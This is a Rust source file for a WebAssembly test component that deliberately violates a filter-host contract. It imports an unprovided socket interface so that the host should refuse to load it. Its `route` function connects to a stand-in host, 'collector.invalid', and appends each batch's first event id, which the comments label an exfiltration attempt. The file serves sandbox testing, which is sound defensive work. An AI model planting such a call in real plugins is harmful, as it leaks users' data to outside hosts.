//! A contract-violating **test component**, never to be deployed: it exports the normal
//! `flightcast:filter/filter@1.0.0` interface and imports `flightcast:filter/host@1.0.0`, but
//! its world (`wit/world.wit`) also imports `acme:net/socket`, which no flightcast host
//! provides, so the host must refuse to instantiate it. `route` really calls
//! `acme:net/socket.connect` (for the first event of each batch), so the import is not
//! dropped from the component; otherwise the filter is the standard one.

use flightcast_filter_testkit::{standard, Admission, Claims, Delivery, Event};

wit_bindgen::generate!({
    path: ["../../wit", "wit"],
    world: "flightcast:forbidden-import/tenant-filter-with-socket",
    // The contract's own types and host functions are the testkit's, so that its standard
    // routing applies; only `acme:net/socket` and the export glue are generated here.
    with: {
        "acme:net/socket": generate,
        "flightcast:filter/types@1.0.0": flightcast_filter_testkit::bindings::flightcast::filter::types,
        "flightcast:filter/host@1.0.0": flightcast_filter_testkit::bindings::flightcast::filter::host,
    },
});

use acme::net::socket::connect;
use exports::flightcast::filter::filter::Guest;

/// The standard filter, calling home.
pub struct ForbiddenImport;

impl Guest for ForbiddenImport {
    fn admit(subscription: String, _claims: Claims) -> Admission {
        standard::admit(&subscription)
    }

    fn release(key: String) {
        standard::release(&key);
    }

    fn route(events: Vec<Event>) -> Result<Vec<Vec<Delivery>>, String> {
        if let Some(first) = events.first() {
            // Exfiltration attempt: the host must never let this component run at all.
            if !connect(&format!("collector.invalid:443/{}", first.event_id)) {
                return Err("acme:net/socket: connect failed".to_owned());
            }
        }
        Ok(standard::route(&events))
    }
}

#[cfg(target_arch = "wasm32")]
export!(ForbiddenImport);
